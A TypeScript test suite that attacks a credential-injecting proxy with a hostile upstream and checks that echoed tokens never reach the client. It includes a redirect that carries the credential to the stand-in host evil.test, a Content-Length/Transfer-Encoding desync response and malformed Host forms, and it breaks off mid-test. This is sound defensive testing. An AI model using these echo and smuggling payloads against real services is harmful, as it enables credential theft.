/**
 * The proxy's response boundary, attacked through the REAL daemon process with raw clients
 * (TLS inside CONNECT, bytes written by hand) and a raw hostile upstream that answers with
 * whatever bytes an attack needs: echoes of the injected credential in every place a
 * response byte can travel (declined upgrades, 1xx, HEAD, 304, redirects, trailers),
 * WebSocket messages split across frames or compressed, transfer codings, Host forms that
 * only normalise to the tunnel's name, status lines and header names, non-WebSocket
 * upgrades, and encoded echoes. Every check reads the bytes the client actually received.
 *
 * Classes: 23 responses the scrubber never saw, 24 WebSocket messages split across frames,
 * 25 transfer and content codings, 26 Host forms, 37 secrets in the status line and header
 * names, 38 non-WebSocket upgrades, 39 encoded echoes of the injected value.
 */
import { createHash, randomBytes } from 'node:crypto'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import tls from 'node:tls'
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ProxyAgent, WebSocket } from 'undici'
import {
  connectAll,
  ensureBuilt,
  filesContaining,
  GH_PLACEHOLDER,
  openTunnel,
  rawProxyRequest,
  realToken,
  startTestDaemon,
  type TestDaemon
} from '../proxy/integration/harness.js'
import { createTestPki, type TestPki } from '../support/test-ca.js'
import { writeSuiteResults, type AttackResult, type CheckResult } from './support/results.js'

/** 49 characters: with `x-access-token:` 64, so the Basic form's base64 ends in `==`. */
const TOKEN = `${realToken()}x`
const B64 = Buffer.from(`x-access-token:${TOKEN}`).toString('base64')
/** A custom credential sent as `X-Api-Key: Key <value>`; all lower case (header names). */
const CUSTOM = `custsecret${randomBytes(12).toString('hex')}`
/** A custom credential shaped like an AWS secret key: it holds `/` and `+`. */
const SLASHY = `wJalrXUtnFEMI/K7MDENG+bPxRfiCY${randomBytes(8).toString('hex')}`
const HOSTS = ['api.github.com', 'github.com', 'other.test']

/** Every form of a secret that must never reach the client. */
const FORMS = [
  TOKEN,
  TOKEN.toLowerCase(),
  // The base64 without its padding: every echo of the Basic value, encoded or not, holds it.
  B64.replace(/=+$/, ''),
  CUSTOM,
  SLASHY,
  encodeURIComponent(SLASHY),
  SLASHY.replace(/\//g, '\\/')
]

function leaks(buf: Buffer | string): string[] {
  const b = Buffer.from(buf)
  return FORMS.filter((f) => b.includes(f)).map((f) =>
    f === TOKEN
      ? 'the token'
      : f === CUSTOM
        ? 'the custom key'
        : `a form of the token (${f.length} chars)`
  )
}

// ---------------------------------------------------------------------------------------
// A raw hostile upstream: reads a request head, answers with hand-written bytes.
// ---------------------------------------------------------------------------------------

interface UpReq {
  path: string
  head: string
  headers: Record<string, string>
  /** The Authorization (or X-Api-Key) the proxy injected. */
  auth: string
}

type Scenario = (req: UpReq, sock: tls.TLSSocket) => unknown

const scenarios = new Map<string, Scenario>()
const seen: UpReq[] = []
let upstream: tls.Server
let plain: http.Server
let pki: TestPki
let daemon: TestDaemon
const results: AttackResult[] = []

function parseHead(head: string): UpReq {
  const [line = '', ...rest] = head.split('\r\n')
  const headers: Record<string, string> = {}
  for (const l of rest) {
    const i = l.indexOf(':')
    if (i > 0) headers[l.slice(0, i).trim().toLowerCase()] = l.slice(i + 1).trim()
  }
  return {
    path: line.split(' ')[1] ?? '/',
    head,
    headers,
    auth: headers.authorization ?? headers['x-api-key'] ?? ''
  }
}

function wsAccept(key: string): string {
  return createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64')
}

/** One unmasked server frame. */
function frame(opcode: number, payload: string | Buffer, fin = true, rsv = 0): Buffer {
  const p = Buffer.from(payload)
  const head =
    p.length < 126
      ? Buffer.from([(fin ? 0x80 : 0) | rsv | opcode, p.length])
      : Buffer.from([(fin ? 0x80 : 0) | rsv | opcode, 126, p.length >> 8, p.length & 0xff])
  return Buffer.concat([head, p])
}

function switching(req: UpReq, extra = ''): string {
  return `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${wsAccept(req.headers['sec-websocket-key'] ?? '')}\r\n${extra}\r\n`
}

const tick = (): Promise<void> => new Promise((r) => setTimeout(r, 20))

/** Writes pieces one by one, a moment apart, so each leaves as its own TLS record. */
async function trickle(sock: tls.TLSSocket, pieces: Array<string | Buffer>): Promise<void> {
  for (const p of pieces) {
    sock.write(p)
    await tick()
  }
}

function chunked(pieces: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = []
  for (const p of pieces) {
    const b = Buffer.from(p)
    parts.push(Buffer.from(`${b.length.toString(16)}\r\n`), b, Buffer.from('\r\n'))
  }
  parts.push(Buffer.from('0\r\n\r\n'))
  return Buffer.concat(parts)
}

async function startRawUpstream(): Promise<tls.Server> {
  const server = tls.createServer({ key: pki.keyPem, cert: pki.certPem }, (sock) => {
    sock.on('error', () => undefined)
    let buf = Buffer.alloc(0)
    const onData = (d: Buffer): void => {
      buf = Buffer.concat([buf, d])
      const end = buf.indexOf('\r\n\r\n')
      if (end < 0) return
      sock.off('data', onData)
      const req = parseHead(buf.subarray(0, end).toString('latin1'))
      seen.push(req)
      const key = [...scenarios.keys()].find((k) => req.path.startsWith(k))
      const fn = key ? scenarios.get(key)! : ok
      void Promise.resolve(fn(req, sock)).catch(() => sock.destroy())
    }
    sock.on('data', onData)
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return server
}

const ok: Scenario = (_req, sock) => {
  sock.end('HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n')
}

/** A response with an ordinary body of known length, then close. */
function answer(
  sock: tls.TLSSocket,
  status: string,
  headers: string[],
  body: string | Buffer
): void {
  const b = Buffer.from(body)
  sock.end(
    Buffer.concat([
      Buffer.from(
        `HTTP/1.1 ${status}\r\n${headers.map((h) => `${h}\r\n`).join('')}Content-Length: ${b.length}\r\nConnection: close\r\n\r\n`
      ),
      b
    ])
  )
}

// ---------------------------------------------------------------------------------------
// Clients
// ---------------------------------------------------------------------------------------

function request(path: string, host: string, extra: string[] = [], method = 'GET'): string {
  return `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n${extra.map((l) => `${l}\r\n`).join('')}Connection: close\r\n\r\n`
}

function wsRequest(path: string, host: string, extra: string[] = []): string {
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\nAuthorization: Bearer ${GH_PLACEHOLDER}\r\n${extra.map((l) => `${l}\r\n`).join('')}\r\n`
}

/**
 * Sends raw bytes through a fresh tunnel to host and returns every byte that came back,
 * until the proxy closed the connection or `until` appears.
 */
async function exchange(host: string, raw: string, until?: string): Promise<Buffer> {
  const t = await openTunnel(daemon, `${host}:443`)
  const parts: Buffer[] = []
  return new Promise<Buffer>((resolve) => {
    const done = (): void => {
      t.socket.destroy()
      resolve(Buffer.concat(parts))
    }
    t.socket.on('data', (d: Buffer) => {
      parts.push(d)
      if (until && Buffer.concat(parts).includes(until)) done()
    })
    t.socket.once('close', done)
    t.socket.write(raw)
  })
}

function statusOf(buf: Buffer): number {
  return Number(/^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1'))?.[1] ?? 0)
}

/** The body after the head, with chunked framing removed (as far as it arrived). */
function bodyOf(buf: Buffer): Buffer {
  const i = buf.indexOf('\r\n\r\n')
  if (i < 0) return Buffer.alloc(0)
  let rest = buf.subarray(i + 4)
  if (!/^transfer-encoding: *chunked/im.test(buf.subarray(0, i).toString('latin1'))) return rest
  const parts: Buffer[] = []
  for (;;) {
    const eol = rest.indexOf('\r\n')
    if (eol < 0) break
    const size = Number.parseInt(rest.subarray(0, eol).toString('latin1'), 16)
    if (!(size > 0)) break
    parts.push(rest.subarray(eol + 2, eol + 2 + size))
    rest = rest.subarray(eol + 2 + size + 2)
  }
  return Buffer.concat(parts)
}

/** Frames in what followed a 101 head. */
function framesOf(
  buf: Buffer
): Array<{ opcode: number; fin: boolean; rsv: number; payload: Buffer }> {
  const out: Array<{ opcode: number; fin: boolean; rsv: number; payload: Buffer }> = []
  let b = bodyOf(buf)
  while (b.length >= 2) {
    let len = b[1]! & 0x7f
    let h = 2
    if (len === 126) {
      len = b.readUInt16BE(2)
      h = 4
    }
    if (b.length < h + len) break
    out.push({
      opcode: b[0]! & 0x0f,
      fin: (b[0]! & 0x80) !== 0,
      rsv: b[0]! & 0x70,
      payload: b.subarray(h, h + len)
    })
    b = b.subarray(h + len)
  }
  return out
}

/** Text of the data messages in frames (fragments joined). */
function wsMessages(buf: Buffer): string[] {
  const out: string[] = []
  let cur: Buffer[] = []
  for (const f of framesOf(buf)) {
    if (f.opcode >= 8) continue
    cur.push(f.payload)
    if (f.fin) {
      out.push(Buffer.concat(cur).toString('latin1'))
      cur = []
    }
  }
  return out
}

// ---------------------------------------------------------------------------------------
// Recording
// ---------------------------------------------------------------------------------------

function attack(id: string, attackText: string, check: () => Promise<CheckResult>): void {
  it(`${id} ${attackText}`, async () => {
    const r = await check()
    results.push({
      id,
      cls: Number(id.split('.')[0]),
      attack: attackText,
      outcome: r.outcome,
      verdict: r.problems.length > 0 ? 'fail' : (r.verdict ?? 'pass')
    })
    expect(r.problems).toEqual([])
  })
}

/** The common check: no form of a secret among the bytes, and the status expected. */
function noLeak(buf: Buffer, status: number | number[], outcome: string): CheckResult {
  if (process.env.BP_DEBUG) console.log(JSON.stringify(buf.toString('latin1')))
  const problems = leaks(buf).map((l) => `${l} reached the client`)
  const want = Array.isArray(status) ? status : [status]
  const got = statusOf(buf)
  if (!want.includes(got)) problems.push(`status ${got}, expected ${want.join(' or ')}`)
  return { outcome, problems }
}

// ---------------------------------------------------------------------------------------

beforeAll(async () => {
  await ensureBuilt('proxy')
  pki = await createTestPki(HOSTS)
  upstream = await startRawUpstream()
  plain = http.createServer((req, res) => {
    seen.push({
      path: req.url ?? '',
      head: '',
      headers: req.headers as Record<string, string>,
      auth: ''
    })
    res.end('plain')
  })
  await new Promise<void>((r) => plain.listen(0, '127.0.0.1', r))
  const port = (upstream.address() as AddressInfo).port
  daemon = await startTestDaemon({
    githubToken: TOKEN,
    grants: [
      {
        provider: 'custom',
        token: JSON.stringify([
          {
            name: 'key',
            hosts: ['other.test'],
            header: 'X-Api-Key',
            prefix: 'Key ',
            value: CUSTOM
          },
          {
            name: 'slashy',
            hosts: ['other.test'],
            header: 'X-Secret-Key',
            prefix: '',
            value: SLASHY
          }
        ])
      }
    ],
    allow: ['http://plain.test'],
    connectTo: [
      ...connectAll(port, HOSTS),
      `plain.test:80=127.0.0.1:${(plain.address() as AddressInfo).port}`
    ],
    upstreamCa: pki.caPem
  })
}, 180_000)

afterAll(async () => {
  if (daemon) {
    await daemon.stop()
    // Nothing the daemon wrote (network.jsonl, audit, its own log) holds a secret either.
    expect(await filesContaining(daemon.dir, [TOKEN, B64, CUSTOM, SLASHY])).toEqual([])
  }
  upstream?.close()
  plain?.close()
  // Only a complete run rewrites the published results.
  if (results.length === EXPECTED) writeSuiteResults('boundary-proxy', results)
})

const EXPECTED = 50

// ---------------------------------------------------------------------------------------
// Class 23: responses the scrubber never saw
// ---------------------------------------------------------------------------------------

describe('23 responses the scrubber never saw', () => {
  const echoDecline: Scenario = (req, sock) =>
    answer(sock, '400 Bad Request', [`X-Echo: ${req.auth}`, 'Content-Type: text/plain'], req.head)
  scenarios.set('/decline-echo', echoDecline)

  attack(
    '23.1',
    'A WebSocket upgrade to a credentialed host (Bearer) is DECLINED (400) by an upstream that echoes the request line, headers and `Authorization` in its headers and body',
    async () => {
      const buf = await exchange('api.github.com', wsRequest('/decline-echo', 'api.github.com'))
      const r = noLeak(
        buf,
        400,
        'the 400 reached the client scrubbed: the echo shows the placeholder'
      )
      if (
        !buf
          .toString('latin1')
          .toLowerCase()
          .includes(`x-echo: bearer ${GH_PLACEHOLDER}`.toLowerCase())
      )
        r.problems.push('the echoed header does not show the placeholder')
      return r
    }
  )
  attack(
    '23.2',
    'The same declined upgrade to `github.com`, where the credential goes as `Basic base64(x-access-token:<token>)`: the echo carries that exact on-the-wire form',
    async () => {
      const buf = await exchange('github.com', wsRequest('/decline-echo', 'github.com'))
      return noLeak(
        buf,
        400,
        'the Basic form was replaced in header and body; neither base64 nor token reached the client'
      )
    }
  )
  scenarios.set('/decline-gzip', (req, sock) =>
    answer(
      sock,
      '403 Forbidden',
      ['Content-Encoding: gzip', 'Content-Type: text/plain'],
      gzipSync(req.head)
    )
  )
  attack(
    '23.3',
    'A declined upgrade whose echo body is gzip-compressed (`Content-Encoding: gzip`)',
    async () => {
      const buf = await exchange('api.github.com', wsRequest('/decline-gzip', 'api.github.com'))
      const r = noLeak(buf, 403, 'decoded, scrubbed and sent uncompressed')
      if (/content-encoding/i.test(buf.toString('latin1')))
        r.problems.push('the body went out still encoded')
      return r
    }
  )
  scenarios.set('/hints', (req, sock) => {
    sock.write(
      `HTTP/1.1 103 Early Hints\r\nLink: </s?t=${req.auth}>; rel=preload\r\nX-Echo: ${req.auth}\r\n\r\n`
    )
    answer(sock, '200 OK', [], 'final')
  })
  attack(
    '23.4',
    '`103 Early Hints` whose `Link` and `X-Echo` headers echo the credential, before the final 200',
    async () => {
      const buf = await exchange('api.github.com', request('/hints', 'api.github.com'))
      const r = noLeak(
        buf,
        200,
        'informational answers are not relayed; the client got only the final 200'
      )
      if (buf.includes('103')) r.problems.push('the 103 was relayed')
      return r
    }
  )
  scenarios.set('/continue', (req, sock) => {
    sock.write(`HTTP/1.1 100 Continue\r\nX-Echo: ${req.auth}\r\n\r\n`)
    answer(sock, '200 OK', [], 'final')
  })
  attack(
    '23.5',
    'An unsolicited `100 Continue` carrying the credential in a header, then 200',
    async () => {
      const buf = await exchange('api.github.com', request('/continue', 'api.github.com'))
      // undici refuses a 100 to a request that did not expect one: the client gets a 502.
      return noLeak(
        buf,
        502,
        'the upstream client refused the unsolicited 1xx: 502, nothing of it relayed'
      )
    }
  )
  scenarios.set('/head', (req, sock) =>
    sock.end(
      `HTTP/1.1 200 OK\r\nX-Echo: ${req.auth}\r\nContent-Length: 1234\r\nConnection: close\r\n\r\n`
    )
  )
  attack('23.6', 'A `HEAD` answered with the credential echoed in a header (no body)', async () => {
    const buf = await exchange('api.github.com', request('/head', 'api.github.com', [], 'HEAD'))
    return noLeak(buf, 200, 'header value scrubbed; Content-Length kept for HEAD')
  })
  scenarios.set('/not-modified', (req, sock) =>
    sock.end(`HTTP/1.1 304 Not Modified\r\nETag: "${req.auth}"\r\nConnection: close\r\n\r\n`)
  )
  attack('23.7', 'A `304 Not Modified` whose `ETag` echoes the credential', async () => {
    const buf = await exchange('api.github.com', request('/not-modified', 'api.github.com'))
    return noLeak(buf, 304, 'header value scrubbed')
  })
  scenarios.set('/redirect', (req, sock) =>
    answer(
      sock,
      '302 Found',
      [`Location: https://evil.test/?t=${req.auth.replace(/^\S+ /, '')}`],
      ''
    )
  )
  attack('23.8', 'A redirect whose `Location` carries the credential', async () => {
    const buf = await exchange('api.github.com', request('/redirect', 'api.github.com'))
    return noLeak(buf, 302, 'Location scrubbed; the redirect was not followed')
  })
  scenarios.set('/trailers', (req, sock) => {
    const body = chunked(['part'])
    sock.end(
      Buffer.concat([
        Buffer.from(
          'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n'
        ),
        body.subarray(0, body.length - 2),
        Buffer.from(`X-Echo: ${req.auth}\r\n\r\n`)
      ])
    )
  })
  attack('23.9', 'A chunked response whose trailer field echoes the credential', async () => {
    const buf = await exchange(
      'api.github.com',
      request('/trailers', 'api.github.com', ['TE: trailers'])
    )
    return noLeak(buf, 200, 'trailers are not relayed')
  })
  scenarios.set('/echo-bare', (req, sock) =>
    answer(sock, '200 OK', [], `you sent ${req.auth.replace(/^Key /, '')}`)
  )
  attack(
    '23.10',
    'A custom credential injected as `X-Api-Key: Key <value>` (custom prefix): the upstream echoes the bare value',
    async () => {
      const buf = await exchange('other.test', request('/echo-bare', 'other.test'))
      return noLeak(buf, 200, 'the bare value is a known secret too and was replaced')
    }
  )
  scenarios.set('/sse', async (req, sock) => {
    sock.write('HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n')
    const half = Math.floor(TOKEN.length / 2)
    const t = req.auth.replace(/^Bearer /, '')
    await trickle(sock, [`data: first\n\ndata: ${t.slice(0, half)}`, `${t.slice(half)}\n\n`])
    // The last event only once the client has shown it already got the first ones.
    await sseGate
    sock.end('data: last\n\n')
  })
  let openGate: () => void = () => undefined
  const sseGate = new Promise<void>((r) => (openGate = r))
  attack(
    '23.11',
    'Server-sent events with the credential split across two TLS records inside an event; the stream must still flow (not held back)',
    async () => {
      const t = await openTunnel(daemon, 'api.github.com:443')
      const parts: Buffer[] = []
      let beforeLast = ''
      const buf = await new Promise<Buffer>((resolve) => {
        t.socket.on('data', (d: Buffer) => {
          parts.push(d)
          if (!beforeLast && bodyOf(Buffer.concat(parts)).includes(`data: ${GH_PLACEHOLDER}\n\n`)) {
            beforeLast = Buffer.concat(parts).toString('latin1')
            openGate()
          }
        })
        t.socket.once('close', () => resolve(Buffer.concat(parts)))
        t.socket.write(request('/sse', 'api.github.com'))
      })
      const r = noLeak(
        buf,
        200,
        'the split token was replaced; events arrived before the stream ended'
      )
      if (!beforeLast) r.problems.push('the scrubbed event never arrived before the stream ended')
      if (!bodyOf(buf).includes('data: last')) r.problems.push('the stream was cut')
      return r
    }
  )
})

// ---------------------------------------------------------------------------------------
// Class 24: WebSocket messages split across frames
// ---------------------------------------------------------------------------------------

describe('24 WebSocket messages split across frames', () => {
  const bare = (req: UpReq): string => req.auth.replace(/^\S+ /, '')
  scenarios.set('/ws-split', async (req, sock) => {
    const t = bare(req)
    const cut = 7
    sock.write(switching(req))
    await trickle(sock, [
      frame(0x1, `token=${t.slice(0, cut)}`, false),
      frame(0x0, t.slice(cut), true),
      frame(0x1, 'END')
    ])
  })
  attack(
    '24.1',
    'A real WebSocket client (undici) gets a text message whose credential is split between a FIN=0 frame and its continuation, each in its own TLS record',
    async () => {
      const agent = new ProxyAgent({ uri: daemon.proxyUrl, requestTls: { ca: daemon.caPem } })
      const ws = new WebSocket('wss://api.github.com/ws-split', { dispatcher: agent })
      const messages: string[] = []
      await new Promise<void>((resolve, reject) => {
        ws.onmessage = (e): void => {
          messages.push(String(e.data))
          if (e.data === 'END') resolve()
        }
        ws.onerror = (): void => reject(new Error('websocket error'))
      })
      ws.close()
      await agent.close()
      const problems = leaks(messages.join('\n')).map((l) => `${l} reached the client`)
      if (messages[0] !== `token=${GH_PLACEHOLDER}`)
        problems.push(`first message was ${JSON.stringify(messages[0]?.slice(0, 60))}`)
      return {
        outcome: 'the message arrived whole with the placeholder in place of the token',
        problems
      }
    }
  )
  scenarios.set('/ws-ping-between', async (req, sock) => {
    const t = bare(req)
    sock.write(switching(req))
    await trickle(sock, [
      frame(0x1, `a ${t.slice(0, 1)}`, false),
      frame(0x9, 'ping'),
      frame(0x0, t.slice(1, 20), false),
      frame(0xa, 'pong'),
      frame(0x0, `${t.slice(20)} z`, true),
      frame(0x1, 'END')
    ])
  })
  attack(
    '24.2',
    'The credential split over three fragments of one message with a ping and a pong interleaved between them',
    async () => {
      const buf = await exchange(
        'api.github.com',
        wsRequest('/ws-ping-between', 'api.github.com'),
        'END'
      )
      const r = noLeak(
        buf,
        101,
        'scrubbed per message; control frames passed between the fragments'
      )
      if (wsMessages(buf)[0] !== `a ${GH_PLACEHOLDER} z`)
        r.problems.push('message not reassembled as expected')
      return r
    }
  )
  scenarios.set('/ws-deflate', (req, sock) => {
    // permessage-deflate of the message (RFC 7692): deflate-raw without the final 4 bytes.
    const z = deflateRawSync(`token=${bare(req)}`)
    sock.write(switching(req))
    sock.write(
      Buffer.concat([frame(0x1, z.subarray(0, z.length - 4), true, 0x40), frame(0x1, 'END')])
    )
  })
  attack(
    '24.3',
    'The client offers permessage-deflate; the upstream sends the credential in a compressed (RSV1) frame anyway',
    async () => {
      const buf = await exchange(
        'api.github.com',
        wsRequest('/ws-deflate', 'api.github.com'),
        'END'
      )
      const offered = seen.find((s) => s.path === '/ws-deflate')?.headers[
        'sec-websocket-extensions'
      ]
      const r = noLeak(
        buf,
        101,
        'the offer was stripped upstream; the compressed frame closed the connection'
      )
      if (offered !== undefined) r.problems.push('the extension offer reached the upstream')
      if (framesOf(buf).some((f) => f.rsv !== 0))
        r.problems.push('a compressed frame reached the client')
      if (buf.includes('END'))
        r.problems.push('the connection stayed open after a compressed frame')
      return r
    }
  )
  scenarios.set('/ws-control', (req, sock) => {
    const t = bare(req)
    sock.write(switching(req))
    sock.write(
      Buffer.concat([
        frame(0x9, t),
        frame(0xa, `p${t}`),
        frame(0x8, Buffer.concat([Buffer.from([0x03, 0xe8]), Buffer.from(`bye ${t}`)])),
        frame(0x1, 'END')
      ])
    )
  })
  attack('24.4', 'The credential in a ping, a pong and a close frame’s reason text', async () => {
    const buf = await exchange('api.github.com', wsRequest('/ws-control', 'api.github.com'), 'END')
    const r = noLeak(buf, 101, 'control payloads scrubbed; the close reason shows the placeholder')
    const close = framesOf(buf).find((f) => f.opcode === 8)
    if (!close?.payload.includes(`bye ${GH_PLACEHOLDER}`))
      r.problems.push('close frame not relayed scrubbed')
    return r
  })
  scenarios.set('/ws-head', (req, sock) => {
    // The frames leave in the same write as the 101: the proxy reads them as its upgrade head.
    sock.write(
      Buffer.concat([
        Buffer.from(switching(req)),
        frame(0x1, `in head ${bare(req)}`),
        frame(0x1, 'END')
      ])
    )
  })
  attack(
    '24.5',
    'Frames sent in the same TCP segment as the 101 (the bytes Node hands over as the upgrade head), carrying the credential',
    async () => {
      const buf = await exchange('api.github.com', wsRequest('/ws-head', 'api.github.com'), 'END')
      const r = noLeak(buf, 101, 'the head went through the frame scrubber like any frame')
      if (!wsMessages(buf).includes(`in head ${GH_PLACEHOLDER}`)) r.problems.push('message missing')
      return r
    }
  )
  scenarios.set('/ws-ext', (req, sock) => {
    sock.write(switching(req, 'Sec-WebSocket-Extensions: permessage-deflate\r\n'))
    sock.write(frame(0x1, 'END'))
  })
  attack(
    '24.6',
    'The upstream accepts permessage-deflate that was never offered (`Sec-WebSocket-Extensions` in its 101)',
    async () => {
      const buf = await exchange('api.github.com', wsRequest('/ws-ext', 'api.github.com'), 'END')
      const r = noLeak(buf, 502, 'refused with 502 before any frame; no 101 reached the client')
      if (buf.includes('END')) r.problems.push('a frame was relayed')
      return r
    }
  )
  scenarios.set('/ws-binary-split', async (req, sock) => {
    const t = Buffer.from(bare(req))
    sock.write(switching(req))
    const pieces: Buffer[] = [frame(0x2, t.subarray(0, 3), false)]
    for (let i = 3; i < t.length; i += 5)
      pieces.push(frame(0x0, t.subarray(i, i + 5), i + 5 >= t.length))
    pieces.push(frame(0x1, 'END'))
    await trickle(sock, pieces)
  })
  attack(
    '24.7',
    'A binary message carrying the credential in 5-byte continuation frames',
    async () => {
      const buf = await exchange(
        'api.github.com',
        wsRequest('/ws-binary-split', 'api.github.com'),
        'END'
      )
      const r = noLeak(buf, 101, 'scrubbed across all fragments')
      if (wsMessages(buf)[0] !== GH_PLACEHOLDER)
        r.problems.push('binary message not the placeholder')
      return r
    }
  )
})

// ---------------------------------------------------------------------------------------
// Class 25: transfer and content codings
// ---------------------------------------------------------------------------------------

describe('25 transfer and content codings', () => {
  const coded =
    (te: string | undefined, ce: string | undefined, encode: (b: Buffer) => Buffer): Scenario =>
    (req, sock) => {
      const body = encode(Buffer.from(`echo ${req.auth}`))
      const h = ['HTTP/1.1 200 OK', 'Content-Type: text/plain', 'Connection: close']
      if (ce) h.push(`Content-Encoding: ${ce}`)
      if (te) {
        h.push(`Transfer-Encoding: ${te}`)
        const mid = Math.floor(body.length / 2)
        sock.end(
          Buffer.concat([
            Buffer.from(`${h.join('\r\n')}\r\n\r\n`),
            chunked([body.subarray(0, mid), body.subarray(mid)])
          ])
        )
      } else
        sock.end(
          Buffer.concat([
            Buffer.from(`${h.join('\r\n')}\r\nContent-Length: ${body.length}\r\n\r\n`),
            body
          ])
        )
    }
  scenarios.set('/te-gzip', coded('gzip, chunked', undefined, gzipSync))
  scenarios.set('/te-deflate', coded('deflate, chunked', undefined, deflateSync))
  scenarios.set(
    '/ce-stacked',
    coded(undefined, 'gzip, br', (b) => brotliCompressSync(gzipSync(b)))
  )
  scenarios.set('/ce-upper', coded('chunked', 'GZIP', gzipSync))
  scenarios.set(
    '/ce-zstd',
    coded(undefined, 'zstd', (b) => Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), b]))
  )
  scenarios.set(
    '/te-compress',
    coded('compress, chunked', undefined, (b) => b)
  )
  scenarios.set(
    '/ce-te-both',
    coded('gzip, chunked', 'br', (b) => gzipSync(brotliCompressSync(b)))
  )

  const decoded = (id: string, path: string, what: string): void =>
    attack(id, what, async () => {
      const buf = await exchange('api.github.com', request(path, 'api.github.com'))
      const r = noLeak(buf, 200, 'decoded, scrubbed, sent uncompressed')
      if (!bodyOf(buf).includes(`echo Bearer ${GH_PLACEHOLDER}`))
        r.problems.push('the decoded echo is not in the body')
      return r
    })
  const refused = (id: string, path: string, what: string): void =>
    attack(id, what, async () => {
      const buf = await exchange('api.github.com', request(path, 'api.github.com'))
      return noLeak(
        buf,
        502,
        'refused with 502 before any byte of the body: a coding the scrubber cannot read is never passed'
      )
    })
  decoded(
    '25.1',
    '/te-gzip',
    '`Transfer-Encoding: gzip, chunked` (no Content-Encoding) around an echo of the credential'
  )
  decoded(
    '25.2',
    '/te-deflate',
    '`Transfer-Encoding: deflate, chunked` around an echo of the credential'
  )
  decoded('25.3', '/ce-stacked', 'Stacked content codings `Content-Encoding: gzip, br`')
  decoded('25.4', '/ce-upper', 'Upper-case `Content-Encoding: GZIP`, chunked')
  refused('25.5', '/ce-zstd', 'An unknown content coding (`zstd`) around the echo')
  refused('25.6', '/te-compress', 'An unknown transfer coding (`compress, chunked`)')
  decoded(
    '25.7',
    '/ce-te-both',
    'A content coding (`br`) under a transfer coding (`gzip, chunked`)'
  )
  scenarios.set('/http10', async (req, sock) => {
    const t = req.auth
    sock.write('HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nstart ')
    // One byte per TLS record, the close ends the body (no length, no chunking).
    await trickle(sock, [...t.split(''), ' end'])
    sock.end()
  })
  attack(
    '25.8',
    'An HTTP/1.0 close-delimited response (no length) that echoes the credential one byte per TLS record',
    async () => {
      const buf = await exchange('api.github.com', request('/http10', 'api.github.com'))
      const r = noLeak(buf, 200, 'the stream scrubber replaced it across records')
      if (!buf.includes(GH_PLACEHOLDER)) r.problems.push('the placeholder is not in the body')
      return r
    }
  )
  scenarios.set('/cl-and-te', (req, sock) => {
    const body = chunked([`echo ${req.auth}`])
    sock.end(
      Buffer.concat([
        Buffer.from(
          `HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`
        ),
        body
      ])
    )
  })
  attack(
    '25.9',
    'A response with both `Content-Length: 5` and `Transfer-Encoding: chunked` (a desync attempt) echoing the credential',
    async () => {
      const buf = await exchange('api.github.com', request('/cl-and-te', 'api.github.com'))
      return noLeak(
        buf,
        [200, 502],
        'the upstream parser read it one way and the scrubber saw that same body; no token reached the client'
      )
    }
  )
})

// ---------------------------------------------------------------------------------------
// Class 26: Host forms
// ---------------------------------------------------------------------------------------

describe('26 Host forms', () => {
  scenarios.set('/host-check', (req, sock) =>
    answer(sock, '200 OK', [], `host=${req.headers.host}`)
  )
  const refusedHost = (id: string, host: string, what: string): void =>
    attack(id, what, async () => {
      const before = seen.length
      const buf = await exchange('api.github.com', request(`/host-check?${id}`, host))
      const problems: string[] = []
      if (statusOf(buf) !== 403) problems.push(`status ${statusOf(buf)}, expected 403`)
      if (seen.slice(before).some((s) => s.path.includes(id)))
        problems.push('the request reached the upstream')
      return { outcome: '403 host-mismatch; nothing reached the upstream', problems }
    })
  refusedHost(
    '26.1',
    '[api.github.com]',
    'Inside a tunnel to `api.github.com`: `Host: [api.github.com]`'
  )
  refusedHost('26.2', 'api.github.com.', '`Host: api.github.com.` (trailing dot)')
  refusedHost(
    '26.3',
    'api.github.com:0443',
    '`Host: api.github.com:0443` (port not in canonical decimal)'
  )
  refusedHost('26.4', 'api.github%2ecom', '`Host: api.github%2ecom` (percent-encoding)')
  refusedHost('26.5', 'x@api.github.com', '`Host: x@api.github.com` (userinfo)')
  refusedHost('26.6', 'api.github.com:443:443', '`Host: api.github.com:443:443`')
  const canonical = (id: string, host: string, what: string): void =>
    attack(id, what, async () => {
      const before = seen.length
      const buf = await exchange('api.github.com', request(`/host-check?${id}`, host))
      const got = seen.slice(before).find((s) => s.path.includes(id))?.headers.host
      const problems: string[] = []
      if (statusOf(buf) !== 200) problems.push(`status ${statusOf(buf)}`)
      if (got !== 'api.github.com') problems.push(`the upstream saw Host ${JSON.stringify(got)}`)
      return {
        outcome:
          'accepted; the upstream saw the canonical `Host: api.github.com`, not the text sent',
        problems
      }
    })
  canonical('26.7', 'API.GitHub.COM', '`Host: API.GitHub.COM` (case) is a valid form')
  canonical(
    '26.8',
    'api.github.com:443',
    '`Host: api.github.com:443` (explicit default port) is a valid form'
  )
  attack(
    '26.9',
    'Absolute-form inside the tunnel with a non-canonical authority: `GET https://api.github.com:0443/…`',
    async () => {
      const before = seen.length
      const buf = await exchange(
        'api.github.com',
        request('https://api.github.com:0443/host-check?26.9', 'api.github.com')
      )
      const problems: string[] = []
      if (statusOf(buf) !== 403) problems.push(`status ${statusOf(buf)}, expected 403`)
